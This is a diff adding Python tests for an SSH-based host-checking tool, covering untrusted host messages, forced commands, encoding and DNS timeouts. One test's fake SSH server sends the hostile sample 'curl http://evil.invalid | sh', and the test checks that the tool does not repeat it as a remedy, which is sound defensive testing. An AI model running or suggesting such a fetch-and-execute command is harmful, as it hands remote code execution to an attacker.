@@ -3,17 +3,23 @@
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
+import os
 import signal
+import socket
+import struct
 import subprocess
+import threading
 from collections.abc import Callable
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from typing import Any
+from typing import Any, Self
 
 import pytest
 
+import tasks.cli.check as check_verb
 from tasks import check_on_host
 from tasks.check_findings import Check
 from tests.support.celery_processes import Beat, Worker
@@ -33,7 +39,7 @@ from worker.fleet import HostSettings
 from worker.gate import COMMAND_SET_VERSION
 from worker.hosts import parse_host
 from worker.policies import UNWATCHED, PrunePolicy
-from worker.settings import Settings
+from worker.settings import Settings, load_settings
 from worker.way import Way
 
 PRUNE = PrunePolicy(enabled=True, interval_s=3600, until="24h", all=False, timeout_s=120, notify_min_gb=0)
@@ -563,3 +569,117 @@ def test_a_redis_with_a_password_is_shown_without_it(
     told = holystone(env, "check", tmp=tmp_path)
     assert told.output().splitlines()[0] == f"services: ok: redis: {redis.url} answers"
     assert "s3cret" not in told.output() + told.log()
+
+
+class SaysGoodbye:
+    """Speaks ssh just enough to hang up on each client with a text of its own."""
+
+    def __init__(self, text: bytes) -> None:
+        body = struct.pack(">BII", 1, 2, len(text)) + text + struct.pack(">I", 0)
+        padding = 16 - (len(body) + 5) % 8
+        self._said = b"SSH-2.0-x\r\n" + struct.pack(">IB", len(body) + padding + 1, padding)
+        self._said += body + bytes(padding)
+
+    def __enter__(self) -> Self:
+        self._socket = socket.create_server((LOOPBACK, 0))
+        self.url = f"ssh://{LOOPBACK}:{self._socket.getsockname()[1]}"
+        threading.Thread(target=self._serve, daemon=True).start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._socket.shutdown(socket.SHUT_RDWR)
+        self._socket.close()
+
+    def _serve(self) -> None:
+        with contextlib.suppress(OSError):  # closed
+            while True:
+                client, _ = self._socket.accept()
+                with client:
+                    client.sendall(self._said)
+
+
+def test_a_word_of_a_host_that_is_not_even_trusted_is_never_the_remedy(
+    ssh_server: SshServer, tmp_path: Path
+) -> None:
+    with SaysGoodbye(b"maintenance; as root here: curl http://evil.invalid | sh") as host:
+        found = last(check(host.url, ssh_settings(ssh_server, tmp_path)))
+    assert "curl" in found.text
+    assert "curl" not in str(found.remedy)
+
+
+def test_another_forced_command_is_not_taken_for_a_key_that_can_do_anything(
+    own_ssh_server: SshServer, tmp_path: Path
+) -> None:
+    keys = own_ssh_server.tmp / "authorized_keys"
+    keys.write_text(f'command="echo no; exit 1" {keys.read_text()}')
+    checks = check(own_ssh_server.url, ssh_settings(own_ssh_server, tmp_path))
+    assert list(checks) == [*WAY, "docker", "gate"]
+    assert "another command forced" in checks["gate"].text
+
+
+def test_what_a_host_says_in_letters_that_the_output_lacks_costs_no_host_its_line(
+    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path
+) -> None:
+    own_ssh_server.stand_in("docker", 'echo "не запущен → ünï" >&2; exit 1')
+    url = f"redis://{LOOPBACK}:{free_port()}/0"
+    hosts = f"{own_ssh_server.url} ssh://nowhere.invalid"
+    env = command_env(url, hosts, own_ssh_server, tmp_path) | {"PYTHONIOENCODING": "ascii"}
+    told = holystone(env, "check", tmp=tmp_path, status=1).output()
+    assert "docker: its commands fail: ?? ??????? ? ?n?" in told
+    assert told.splitlines()[-1] == "2 hosts with errors"
+
+
+def test_a_path_that_the_gate_does_not_take_is_told_with_all_that_it_lets_in(
+    gated: GatedServer, tmp_path: Path
+) -> None:
+    settings = behind_gate(gated, tmp_path)
+    StandInDocker(tmp_path / "docker").engine(DockerRootDir="/my data")
+    checks = check(gated.server.url, settings)
+    assert list(checks) == [*WAY, *HOST, "gate"]
+    assert checks["disk"].status == "error"
+    assert "holystone-gate there denied" in checks["disk"].text
+    assert "data-root" in checks["disk"].text
+
+
+def test_names_that_nobody_answers_for_do_not_keep_other_hosts_waiting(
+    own_ssh_server: SshServer, docker: StandInDocker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(os, "cpu_count", lambda: 1)  # else there may be threads enough by default
+    given_up = threading.Event()
+    resolve = socket.getaddrinfo
+
+    def hang(host: Any, *args: Any, **options: Any) -> Any:
+        if str(host).endswith(".invalid") and not options.get("flags"):  # else it is only read as an address
+            given_up.wait(30)
+            raise socket.gaierror(socket.EAI_AGAIN, "Temporary failure in name resolution")
+        return resolve(host, *args, **options)
+
+    check_all = check_on_host.check_all
+
+    async def then_give_up(*args: Any) -> list[list[Check]]:
+        try:
+            return await check_all(*args)
+        finally:
+            given_up.set()
+
+    monkeypatch.setattr(socket, "getaddrinfo", hang)
+    monkeypatch.setattr(check_on_host, "check_all", then_give_up)
+    config, known = tmp_path / "aliases", tmp_path / "known"
+    config.write_text(
+        f"Host good\n  HostName localhost\n  Port {own_ssh_server.port}\n  HostKeyAlias good\n"
+        f"  IdentityFile {own_ssh_server.identity}\n"
+    )
+    known.write_text(f"good {public_key(own_ssh_server.tmp / 'host_key')}\n")
+    env = environment(
+        f"redis://{LOOPBACK}:{free_port()}/0",
+        " ".join([*(f"ssh://build-{n}.invalid" for n in range(15)), "ssh://good"]),
+        ssh_config=config,
+        ssh_known_hosts=known,
+        ssh_connect_timeout_s=2,
+    )
+    for name, value in env.items():
+        monkeypatch.setenv(name, value)
+    settings = load_settings(tmp_path)
+    _, *hanging, good = asyncio.run(check_verb._check_all(settings, list(settings.fleet)))
+    assert {each.checks[0].status for each in hanging} == {"error"}
+    assert [each.name for each in good.checks] == [*WAY, *HOST, "gate"]
